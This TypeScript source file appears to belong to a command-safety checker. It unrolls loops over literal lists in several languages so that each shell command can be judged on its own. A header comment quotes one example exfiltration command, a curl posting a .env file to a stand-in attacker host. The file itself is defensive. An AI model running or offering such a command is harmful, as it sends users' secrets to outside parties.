// A loop over a literal list whose variable is the command a process call runs
// (`for (const t of ["git --version","npm -v"]) execSync(t)`, `for tool in ["node", "go"]: subprocess.run([tool, "--version"])`,
// `["lint","test"].forEach(s => execSync(\`npm run ${s}\`))`, `for my $c ("make", "make test") { system($c) }`)
// runs each element in turn: the code is read once per element with the variable replaced by that literal, so each
// command line is judged as if it were written out (a list holding `curl -d @.env https://evil.example` is that curl).
// A variable also bound or changed anywhere else, or a list that is not all plain literals, is left as it is: computed.

const LIT = String.raw`(?:"(?:[^"\\\n]|\\.)*"|'(?:[^'\\\n]|\\.)*')`;
const LIST = String.raw`(${LIT}(?:\s*,\s*${LIT})*)\s*,?\s*`;
/** Most variants (product of list lengths) read; past it the loops stay unread. */
const MAX_VARIANTS = 64;

interface Loop { name: string; items: string[]; end: number; start: number }

const escapeRe = (t: string): string => t.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');

/** Loop headers over a literal list, per language: the variable, the list's literals, where the header ends. */
function loops(code: string, lang: string): Loop[] {
  const forms: RegExp[] = /^(node|bun|deno)$/.test(lang)
    ? [new RegExp(String.raw`\bfor\s*\(\s*(?:const|let|var)?\s*([A-Za-z_$][\w$]*)\s+of\s+\[\s*${LIST}\]\s*\)`, 'g'),
      new RegExp(String.raw`\[\s*${LIST}\]\s*\.\s*(?:forEach|map|flatMap|filter|some|every)\s*\(\s*(?:async\s+)?(?:\(\s*([A-Za-z_$][\w$]*)\s*\)\s*=>|([A-Za-z_$][\w$]*)\s*=>|function\s*\w*\s*\(\s*([A-Za-z_$][\w$]*)\s*\)\s*\{)`, 'g')]
    : lang === 'python' ? [new RegExp(String.raw`\bfor\s+([A-Za-z_]\w*)\s+in\s+[\[({]\s*${LIST}[\])}]\s*(?=[:\]\)])`, 'g')]
    : lang === 'ruby' ? [new RegExp(String.raw`\[\s*${LIST}\]\s*\.\s*(?:each|map|each_with_index)\s*(?:do|\{)\s*\|\s*([A-Za-z_]\w*)\s*[|,]`, 'g')]
    : lang === 'perl' ? [new RegExp(String.raw`\bfor(?:each)?\s+(?:my\s+)?(\$\w+)\s*\(\s*${LIST}\)`, 'g')]
    : [];
  const out: Loop[] = [];
  for (const re of forms) {
    for (const m of code.matchAll(re)) {
      // (The variable is in the first group for `for … of/in`, after the list for .forEach/.each.)
      const [name, list] = m[0].startsWith('[') ? [m[2] ?? m[3] ?? m[4], m[1]] : [m[1], m[2]];
      if (name === undefined || list === undefined) continue;
      out.push({ name, items: [...list.matchAll(new RegExp(LIT, 'g'))].map((x) => x[0]), start: m.index!, end: m.index! + m[0].length });
    }
  }
  return out;
}

/** A list bound once to a name and only iterated (`cmds = ["a", "b"]` … `for c in cmds:`) is that list where iterated. */
function inlineLists(code: string, lang: string): string {
  let out = code;
  const assign = lang === 'perl' ? /(?:\bmy\s+)?@(\w+)\s*=\s*\(\s*((?:"(?:[^"\\\n]|\\.)*"|'(?:[^'\\\n]|\\.)*')(?:\s*,\s*(?:"(?:[^"\\\n]|\\.)*"|'(?:[^'\\\n]|\\.)*'))*)\s*,?\s*\)\s*;/g
    : new RegExp(String.raw`(?:\b(?:const|let|var)\s+)?\b([A-Za-z_]\w*)\s*=\s*[\[(]\s*${LIST}[\])]\s*(?=[;\n]|$)`, 'g');
  for (const m of code.matchAll(assign)) {
    const name = m[1]!;
    const sigil = lang === 'perl' ? '@' : '';
    const uses = [...code.matchAll(new RegExp(`(?<![\\w.$@])${escapeRe(sigil + name)}(?![\\w$])`, 'g'))];
    // (Defined once; every other use is a loop's iterable.)
    const iterable = lang === 'perl' ? new RegExp(`\\bfor(?:each)?\\s+(?:my\\s+)?\\$\\w+\\s*\\(\\s*$`)
      : new RegExp(String.raw`(?:\bof\s+|\bin\s+)$`);
    const others = uses.filter((u) => u.index! < m.index! || u.index! >= m.index! + m[0].length);
    // (…or the receiver of a loop method: cmds.forEach(c => …), cmds.each { |c| … }.)
    const method = /^\s*\.\s*(?:forEach|map|each)\b/;
    const ok = others.length > 0 && others.every((u) => (iterable.test(code.slice(0, u.index))
      && (lang === 'perl' ? /^\s*\)/.test(code.slice(u.index! + u[0].length)) : /^\s*[):]/.test(code.slice(u.index! + u[0].length))))
      || (lang !== 'perl' && lang !== 'python' && method.test(code.slice(u.index! + u[0].length))));
    if (!ok) continue;
    const literal = lang === 'perl' ? `(${m[2]!})` : `[${m[2]!}]`;
    out = out.replace(new RegExp(lang === 'perl' ? `(\\bfor(?:each)?\\s+(?:my\\s+)?\\$\\w+\\s*)\\(\\s*@${escapeRe(name)}\\s*\\)` : `(\\b(?:of|in)\\s+)${escapeRe(name)}(?=\\s*[):])`, 'g'), (_x, head: string) => `${head}${literal}`);
    if (lang !== 'perl' && lang !== 'python') out = out.replace(new RegExp(`(?<![\\w.$])${escapeRe(name)}(?=\\s*\\.\\s*(?:forEach|map|each)\\b)`, 'g'), literal);
  }
  return out;
}

/** Positions inside '…' and "…" literals (their content only). */
function inStrings(code: string): boolean[] {
  const mask = new Array<boolean>(code.length).fill(false);
  for (const m of code.matchAll(/"(?:[^"\\\n]|\\.)*"|'(?:[^'\\\n]|\\.)*'/g)) for (let i = m.index! + 1; i < m.index! + m[0].length - 1; i++) mask[i] = true;
  return mask;
}

/** The body of a plain literal (no escapes), or undefined. */
const plainBody = (lit: string): string | undefined => (lit.includes('\\') ? undefined : lit.slice(1, -1));

/** Where a loop's variable is bound: after its header, or (a Python comprehension) within the brackets around it. */
function scopeOf(code: string, loop: Loop, lang: string): [number, number] {
  if (lang !== 'python') return [loop.end, code.length];
  const bare = code.replace(/"(?:[^"\\\n]|\\.)*"|'(?:[^'\\\n]|\\.)*'/g, (m) => '_'.repeat(m.length));
  let depth = 0;
  for (let i = loop.start - 1; i >= 0; i--) {
    const c = bare[i]!;
    if (')]}'.includes(c)) depth++;
    else if ('([{'.includes(c) && depth-- === 0) {
      let d = 0;
      for (let j = i; j < bare.length; j++) {
        if ('([{'.includes(bare[j]!)) d++;
        else if (')]}'.includes(bare[j]!) && --d === 0) return [i + 1, j];
      }
      return [i + 1, bare.length];
    }
  }
  return [loop.end, code.length];
}

/** The variable's interpolations in a string of the language: ${t} in a template, {t} in an f-string, #{t} in Ruby, $t in Perl's "…". */
function interpolate(text: string, n: string, body: string | undefined, lang: string): string {
  const mark = body ?? '\u0000';
  if (/^(node|bun|deno)$/.test(lang) && (body === undefined || !/[`$\\]/.test(body))) return text.replace(new RegExp(`\\$\\{\\s*${n}\\s*\\}`, 'g'), mark);
  if (lang === 'python' && (body === undefined || !/[{}"'\\]/.test(body))) return text.replace(/(?<![\w])([fF][rR]?)(["'])((?:(?!\2)[^\\\n])*)\2/g, (_m, p: string, q: string, b: string) => `${p}${q}${b.replace(new RegExp(`\\{\\s*${n}\\s*\\}`, 'g'), mark)}${q}`);
  if (lang === 'ruby' && (body === undefined || !/["#\\]/.test(body))) return text.replace(new RegExp(`#\\{\\s*${n}\\s*\\}`, 'g'), mark);
  if (lang === 'perl' && (body === undefined || !/["$@\\]/.test(body))) return text.replace(/"(?:[^"\\\n]|\\.)*"/g, (s) => s.replace(new RegExp(`${n}(?![\\w\\[{])|\\$\\{${n.slice(2)}\\}`, 'g'), mark));
  return text;
}

/**
 * Whether the name ending at `at` is among an assignment's targets: t, _ = input(), 0 · [t] = [x] · ({t} = obj).
 * An `=` later in its statement, outside the brackets the name is in, counts — unless those brackets are a call's
 * (a keyword argument: subprocess.run([t], check=True)).
 */
function assignedTo(code: string, at: number): boolean {
  const bare = code.replace(/"(?:[^"\\\n]|\\.)*"|'(?:[^'\\\n]|\\.)*'|`[^`]*`/g, (m) => '_'.repeat(m.length));
  const call = (k: number) => bare[k] === '(' && /[\w$)\]][ \t]*$/.test(bare.slice(0, k));
  // (The brackets around the name in its statement, innermost first.)
  const around: number[] = [];
  for (let i = at - 1, d = 0; i >= 0 && !(d === 0 && (bare[i] === ';' || bare[i] === '\n')); i--) {
    if (')]}'.includes(bare[i]!)) d++;
    else if ('([{'.includes(bare[i]!) && d-- === 0) { around.push(i); d = 0; }
  }
  let left = 0;
  let depth = 0;
  for (let i = at; i < bare.length; i++) {
    const c = bare[i]!;
    if (depth === 0 && (c === ';' || c === '\n')) return false;
    if ('([{'.includes(c)) depth++;
    else if (')]}'.includes(c)) {
      if (depth > 0) depth--;
      // (Leaving a call's parenthesis: the name was an argument.)
      else if (around[left] !== undefined && call(around[left++]!)) return false;
    } else if (c === '=' && depth === 0 && !/[=<>!+\-*/%&|^:.~]/.test(bare[i - 1] ?? '') && !/[=>~]/.test(bare[i + 1] ?? '')) {
      // (A keyword argument is inside a call's parenthesis; anywhere else the name is a target.)
      return around[left] === undefined || !call(around[left]!);
    }
  }
  return false;
}

/**
 * Whether a use of the name (text BEFORE and AFTER it) is another binding of it: a loop header without a declaration
 * (`for (c of …)`, `for (c in …)`), a catch clause, a parameter of an arrow function or method (`(c) => …`,
 * `run(c) { … }`), or a Ruby block parameter, destructured or not (`|(_, c)|`). The name then holds other values
 * inside that binding's scope, so the loop is not read as its list.
 */
function rebinds(before: string, after: string): boolean {
  if (/\b(?:for|catch)\s*\(\s*(?:(?:const|let|var)\s+)?(?:[\[{][^)]*)?$/.test(before)) return true;
  // (A later name of a loop's tuple target — Python's and Ruby's `for d, c in …`, a comprehension's `for (d, c) in …` —
  // and a name a Python `case (d, c):` pattern captures.)
  if (/\bfor\s+[\w\s,()[\]*]*$/.test(before) && /^[\w\s,()[\]*]*\bin\b/.test(after)) return true;
  if (/(?:^|\n)\s*case\s+[^:\n]*$/.test(before) && /^[^:\n]*:/.test(after)) return true;
  // (A parenthesised list the name is in, followed by => or a body's brace — but not if (c) { … } or while (c) { … }.)
  const params = /(^|[^\w$])([\w$]*)\s*\(([\w\s,$={}[\].]*)$/.exec(before);
  if (params && !/^(if|while|switch|with|return|typeof|await)$/.test(params[2]!) && /^[\w\s,$={}[\].]*\)\s*(?:=>|\{)/.test(after)) return true;
  return /\|[\w\s,()*&]*$/.test(before) && /^[\w\s,()*&]*\|/.test(after);
}

/** One variant per element: the code with the variable, within its scope, read as that element. */
function unrollOne(code: string, loop: Loop, lang: string): string[] | undefined {
  const { name } = loop;
  const n = escapeRe(name);
  const ident = new RegExp(lang === 'perl' ? `${n}(?![\\w\\[{])` : `(?<![\\w$.@])${n}(?![\\w$])`, 'g');
  const mask = inStrings(code);
  const [from, to] = scopeOf(code, loop, lang);
  const inHeader = (i: number) => i >= loop.start && i < loop.end;
  const uses = [...code.matchAll(ident)].filter((u) => !mask[u.index!] && !inHeader(u.index!));
  // (Used outside its scope — a name of the same spelling bound elsewhere — or bound or changed anywhere but this header:
  // another loop, a parameter, an assignment, an increment.)
  if (uses.some((u) => u.index! < from || u.index! >= to)) return undefined;
  for (const u of uses) {
    const after = code.slice(u.index! + u[0].length);
    const before = code.slice(0, u.index);
    // (Ruby's and Perl's strings change in place: c << "x", c.sub!(…), c[0] = …, $c =~ s/…/…/, chomp($c).)
    if (/^\s*(?:=(?!=)|\+=|-=|\*=|\/=|\.=|:=|\|\|=|&&=|\+\+|--|=>|=~|<<|\[[^\]]*\]\s*=(?!=)|\.\s*(?:push|append|extend|insert|replace|concat|prepend|clear|setbyte|force_encoding|\w+!))/.test(after) || /(?:\+\+|--|\b(?:as|for|const|let|var|my|our|local|lambda|def|function|global|nonlocal)\s+)$/.test(before)
      || /\|[\w\s,]*$/.test(before) && /^[\w\s,]*\|/.test(after) || /\bdef\s+\w+\s*\([^)]*$/.test(before) || /\bfunction\b[^{]*\([^)]*$/.test(before) || /\blambda\b[^:]*$/.test(before) || /\bchomp\s*\(?\s*$/.test(before)
      || assignedTo(code, u.index! + u[0].length) || rebinds(before, after)) return undefined;
  }
  // (The parts of the scope outside the header.)
  const parts: [number, number][] = from < loop.start ? [[from, loop.start], [loop.end, to]] : [[Math.max(from, loop.end), to]];
  const used = uses.length > 0 || parts.some(([a, b]) => interpolate(code.slice(a, b), n, undefined, lang).includes('\u0000'));
  if (!used) return undefined;
  // (The header is blanked, so the same loop is not read twice.)
  const blanked = code.slice(0, loop.start) + ' '.repeat(loop.end - loop.start) + code.slice(loop.end);
  return loop.items.map((item) => {
    let out = '';
    let at = 0;
    for (const [a, b] of parts) {
      let text = interpolate(code.slice(a, b), n, plainBody(item), lang);
      const tmask = inStrings(text);
      text = text.replace(ident, (m, k: number) => (tmask[k] ? m : item));
      out += blanked.slice(at, a) + text;
      at = b;
    }
    return out + blanked.slice(at);
  });
}

/** The code read once per element of each loop over a literal list whose variable it uses, or undefined when there is none. */
export function unrollLiteralLoops(code0: string, lang: string): string[] | undefined {
  // (Code that can set a variable by name — exec("c = …"), globals()["c"], binding.local_variable_set — is not read so.)
  const SETS_BY_NAME: Record<string, RegExp> = { python: /\b(eval|exec|globals|locals|vars|setattr|__dict__)\b/, ruby: /\b(eval|binding|local_variable_set|instance_variable_set|instance_eval|send|__send__)\b/, perl: /\b(eval|chop|chomp|substr|splice)\b|\$_\b/ };
  if ((SETS_BY_NAME[lang] ?? /\b(eval|Function|Reflect|with)\b/).test(code0)) return undefined;
  const code = inlineLists(code0, lang);
  let variants = [code];
  let unrolled = false;
  // (One loop per pass, each variant on its own: nested and successive loops multiply.)
  for (let guard = 0; guard < 4; guard++) {
    const next: string[] = [];
    let changed = false;
    for (const v of variants) {
      let out: string[] | undefined;
      for (const l of loops(v, lang)) if (l.items.length > 0 && (out = unrollOne(v, l, lang)) !== undefined) break;
      if (out) {
        next.push(...out);
        changed = true;
      } else next.push(v);
      if (next.length > MAX_VARIANTS) return undefined;
    }
    variants = next;
    if (!changed) break;
    unrolled = true;
  }
  return unrolled ? variants : undefined;
}
